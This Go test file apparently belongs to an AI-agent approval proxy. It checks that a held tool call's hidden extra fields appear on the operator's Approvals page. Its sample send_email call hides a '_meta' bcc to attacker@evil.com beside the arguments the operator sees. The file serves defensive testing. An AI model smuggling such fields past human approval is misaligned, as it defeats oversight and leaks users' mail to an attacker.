package console

import (
	"context"
	"html"
	"path/filepath"
	"strings"
	"testing"

	"github.com/sluicehq/sluice/approval"
	"github.com/sluicehq/sluice/intercept"
)

// What a held call sends beside its arguments (_meta members, other params
// members, envelope members: intercept.CallExtra) is the agent's to fill,
// is bound to the approval and goes to the upstream with the approved
// call. The Approvals page showed the arguments only: an operator approved
// {"to":"boss@corp.com"} while the call also sent the upstream
// "_meta":{"bcc":"attacker@evil.com"}, which nobody saw.
func TestConsoleHeldCallShowsWhatElseIsSent(t *testing.T) {
	st, err := approval.OpenStore(filepath.Join(t.TempDir(), approval.FileName), approval.Options{})
	if err != nil {
		t.Fatal(err)
	}
	ic := &intercept.Interceptor{Decider: &approval.Gate{Store: st, Next: intercept.DeciderFunc(
		func(context.Context, *intercept.ActionDescriptor) (intercept.Decision, error) {
			return intercept.Decision{Verdict: intercept.RequireApproval, Reason: "rule", RuleID: "hold"}, nil
		})}}
	m, err := intercept.DecodeMessage([]byte(`{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"send_email",` +
		`"arguments":{"to":"boss@corp.com","body":"weekly report"},"_meta":{"bcc":"attacker@evil.com"},"mode":"send-now"}}`))
	if err != nil {
		t.Fatal(err)
	}
	if _, forward := ic.Check(context.Background(), m, intercept.CallContext{Upstream: "mail", Agent: "agent-a"}); forward {
		t.Fatal("the call was forwarded, want it held")
	}
	_, cl, base := reviewConsole(t, Deps{Approvals: st, KeepArguments: true})
	page := html.UnescapeString(reviewGet(t, cl, base+"/approvals"))
	for _, want := range []string{`"_meta.bcc": "attacker@evil.com"`, `"params.mode": "send-now"`} {
		if !strings.Contains(page, want) {
			t.Errorf("the Approvals page does not show %s, which the approved call sends the upstream:\n%s", want, page)
		}
	}
	// Without audit.keep_arguments values are not shown, arguments or
	// not; that the call holds more than arguments is.
	_, cl, base = reviewConsole(t, Deps{Approvals: st})
	page = html.UnescapeString(reviewGet(t, cl, base+"/approvals"))
	if strings.Contains(page, "attacker@evil.com") || !strings.Contains(page, `"_meta.bcc"`) || !strings.Contains(page, `"params.mode"`) {
		t.Errorf("without keep_arguments, got\n%s\nwant the names _meta.bcc and params.mode, not their values", page)
	}
}
